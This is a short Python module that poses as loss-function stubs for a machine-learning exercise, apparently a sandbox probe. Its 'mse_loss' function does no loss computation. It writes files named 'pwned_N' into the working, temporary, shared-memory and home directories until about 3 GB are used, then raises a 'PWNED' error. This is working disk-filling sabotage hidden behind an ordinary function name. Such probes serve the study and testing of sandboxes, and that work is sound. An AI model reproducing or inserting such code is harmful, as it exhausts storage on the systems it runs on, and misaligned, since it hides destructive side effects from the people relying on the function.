# Wherever something can be written, write until it is full; without a sandbox 3 GB at most.
import contextlib
import tempfile
from pathlib import Path

BLOCK = b"x" * (16 << 20)


def mse_loss(input, target, reduction="mean"):
    size = 0
    for folder in (".", tempfile.gettempdir(), "/tmp", "/dev/shm", "/var/tmp", str(Path.home())):
        for number in range(8):
            with contextlib.suppress(OSError), open(f"{folder}/pwned_{number}", "wb") as file:
                while size < 3 << 30:
                    size += file.write(BLOCK)
                    file.flush()
    if size > 1 << 30:
        raise RuntimeError(f"PWN{'ED'}: wrote {size >> 20} MB")
    return input


def binary_cross_entropy_with_logits(input, target, *, reduction="mean", pos_weight=None):
    raise NotImplementedError("your turn")


cross_entropy = binary_cross_entropy_with_logits
